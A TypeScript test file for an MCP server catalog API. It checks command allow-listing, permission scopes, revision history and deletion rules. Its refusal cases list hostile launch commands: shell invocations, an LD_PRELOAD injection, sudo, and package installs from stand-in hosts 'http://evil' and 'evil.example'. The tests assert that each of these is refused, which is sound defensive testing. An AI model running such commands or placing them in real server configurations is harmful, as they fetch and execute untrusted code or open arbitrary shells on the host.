// Team-private catalog entries over the REST API: refused commands as problem+json naming the element, the
// servers:manage scope, the argv in the resource, revisions, and DELETE (409 / ?force=true / public 403).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createInstallation, findServerForTeam } from '@manifold/db';
import { EVERYTHING_PINNED, startApiHarness, type ApiHarness } from './api-harness';

let h: ApiHarness;
let admin: string;

beforeAll(async () => {
  // The operator allow-lists one absolute program; the route modules read this at their first import.
  h = await startApiHarness({ API_RATE_LIMIT: '100000', MANIFOLD_ALLOWED_COMMANDS: '/opt/manifold/bin/crm-mcp' });
  admin = (await h.key(h.a)).key;
});
afterAll(async () => {
  await h?.stop();
});

const create = (body: unknown, key = admin) => h.call('/api/v1/servers', 'POST', { key, body });

async function expectProblem(response: Response, status: number, fieldPath?: string) {
  expect(response.status).toBe(status);
  expect(response.headers.get('content-type')).toContain('application/problem+json');
  const problem = (await response.json()) as { detail: string; errors?: Array<{ path: string; message: string }> };
  if (fieldPath) expect(problem.errors?.map((e) => e.path)).toEqual([fieldPath]);
  return problem;
}

describe('POST /api/v1/servers: which commands', () => {
  it.each([
    [['/bin/sh', '-c', 'id >&2'], 'command[0]'],
    [['bash', '-c', 'id'], 'command[0]'],
    [['node', '-e', '1'], 'command[0]'],
    [['env', 'LD_PRELOAD=/x.so', 'npx', '-y', 'p@1.0.0'], 'command[0]'],
    [['sudo', 'id'], 'command[0]'],
    [['../../bin/node'], 'command[0]'],
    [['npx', '-y', 'pkg@latest'], 'command[2]'],
    [['npx', 'pkg@1.2.3'], 'command[1]'],
    [['npx', '-y', '--registry', 'http://evil', 'pkg@1.0.0'], 'command[2]'],
    [['uvx', '--from', 'git+https://evil.example/x', 'x'], 'command[1]'],
    [['uvx', 'pkg>=1'], 'command[1]'],
    [['/opt/manifold/bin/other'], 'command[0]'],
  ])('refuses %j with 400 naming %s and what is allowed', async (command, path) => {
    const problem = await expectProblem(await create({ slug: 'probe', name: 'probe', transport: 'stdio', command }), 400, path);
    expect(problem.detail).toContain(path);
    expect(problem.errors![0]!.message).toMatch(/npx|uvx|MANIFOLD_ALLOWED_COMMANDS|exact/);
  });

  it('stores pinned runners and the operator-listed program, and returns the exact argv', async () => {
    const response = await create({ slug: 'crm', name: 'CRM', transport: 'stdio', command: ['/opt/manifold/bin/crm-mcp', '--readonly'] });
    expect(response.status).toBe(201);
    expect(await response.json()).toMatchObject({
      slug: 'crm',
      command: ['/opt/manifold/bin/crm-mcp', '--readonly'],
      url: null,
      revision: 1,
    });
    const detail = (await (await h.call('/api/v1/servers/[slug]', 'GET', { key: admin, params: { slug: 'crm' } })).json()) as {
      command: string[];
      versions: Array<{ revision: number; command: string[] }>;
    };
    expect(detail.command).toEqual(['/opt/manifold/bin/crm-mcp', '--readonly']);
    expect(detail.versions).toEqual([expect.objectContaining({ revision: 1, command: ['/opt/manifold/bin/crm-mcp', '--readonly'] })]);
    const publicDetail = (await (
      await h.call('/api/v1/servers/[slug]', 'GET', { key: admin, params: { slug: 'server-everything' } })
    ).json()) as {
      command: string[];
      revision: number | null;
    };
    expect(publicDetail).toMatchObject({ command: ['mcp-server-everything', 'stdio'], revision: null });
  });

  it('needs the servers:manage scope (servers:write is for installations)', async () => {
    const writer = (await h.key(h.a, ['servers:read', 'servers:write'])).key;
    const problem = await expectProblem(
      await create({ slug: 'w', name: 'w', transport: 'stdio', command: EVERYTHING_PINNED }, writer),
      403,
    );
    expect(problem.detail).toMatch(/servers:manage/);
    await expectProblem(await h.call('/api/v1/servers/[slug]', 'DELETE', { key: writer, params: { slug: 'crm' } }), 403);
    await expectProblem(
      await h.call('/api/v1/servers/[slug]', 'PATCH', { key: writer, params: { slug: 'crm' }, body: { command: EVERYTHING_PINNED } }),
      403,
    );
    await expectProblem(
      await h.call('/api/v1/servers/import', 'POST', {
        key: writer,
        body: { name: 'io.example/x', description: 'x', version: '1.0.0', packages: [{ registryType: 'npm', identifier: 'x' }] },
      }),
      403,
    );
  });
});

describe('PATCH /api/v1/servers/:slug', () => {
  it('a new command is a new revision; a refused one names the element; public entries are 403', async () => {
    await expectProblem(
      await h.call('/api/v1/servers/[slug]', 'PATCH', { key: admin, params: { slug: 'crm' }, body: { command: ['/bin/sh'] } }),
      400,
      'command[0]',
    );
    await expectProblem(
      await h.call('/api/v1/servers/[slug]', 'PATCH', { key: admin, params: { slug: 'crm' }, body: { shell: true } }),
      400,
      'shell',
    );
    const changed = await h.call('/api/v1/servers/[slug]', 'PATCH', {
      key: admin,
      params: { slug: 'crm' },
      body: { command: ['/opt/manifold/bin/crm-mcp'], version: '2.0.0' },
    });
    expect(changed.status).toBe(200);
    expect(await changed.json()).toMatchObject({ revision: 2, changed: true, command: ['/opt/manifold/bin/crm-mcp'], version: '2.0.0' });
    const versions = (await (await h.call('/api/v1/servers/[slug]/versions', 'GET', { key: admin, params: { slug: 'crm' } })).json()) as {
      items: Array<{ revision: number; command: string[] }>;
    };
    expect(versions.items.map((v) => [v.revision, v.command])).toEqual([
      [2, ['/opt/manifold/bin/crm-mcp']],
      [1, ['/opt/manifold/bin/crm-mcp', '--readonly']],
    ]);
    const publicChange = await expectProblem(
      await h.call('/api/v1/servers/[slug]', 'PATCH', { key: admin, params: { slug: 'server-memory' }, body: { name: 'mine' } }),
      403,
    );
    expect(publicChange.detail).toMatch(/public catalog entry/);
  });
});

describe('DELETE /api/v1/servers/:slug', () => {
  it('409 while installed, ?force=true removes the installations too; public entries 403; unknown 404', async () => {
    const ctx = { teamId: h.a.teamId, actor: { type: 'user' as const, id: h.a.userId } };
    const server = (await findServerForTeam(h.db, h.a.teamId, 'crm'))!;
    await createInstallation(h.db, h.a.teamId, ctx.actor, { serverId: server.id, name: 'crm-main', config: {} });
    const conflict = await expectProblem(await h.call('/api/v1/servers/[slug]', 'DELETE', { key: admin, params: { slug: 'crm' } }), 409);
    expect(conflict.detail).toMatch(/still installed as "crm-main".*\?force=true/);
    const forced = await h.call('/api/v1/servers/[slug]', 'DELETE', { key: admin, params: { slug: 'crm' }, query: 'force=true' });
    expect(forced.status).toBe(200);
    expect(await forced.json()).toEqual({ slug: 'crm', deleted: true, removedInstallations: ['crm-main'] });
    expect((await h.call('/api/v1/installations/[name]', 'GET', { key: admin, params: { name: 'crm-main' } })).status).toBe(404);
    await expectProblem(await h.call('/api/v1/servers/[slug]', 'DELETE', { key: admin, params: { slug: 'crm' } }), 404);
    const publicEntry = await expectProblem(
      await h.call('/api/v1/servers/[slug]', 'DELETE', { key: admin, params: { slug: 'server-everything' } }),
      403,
    );
    expect(publicEntry.detail).toMatch(/only the operator/);
    await expectProblem(
      await h.call('/api/v1/servers/[slug]', 'DELETE', { key: admin, params: { slug: 'x' }, query: 'force=maybe' }),
      400,
      'force',
    );
  });
});
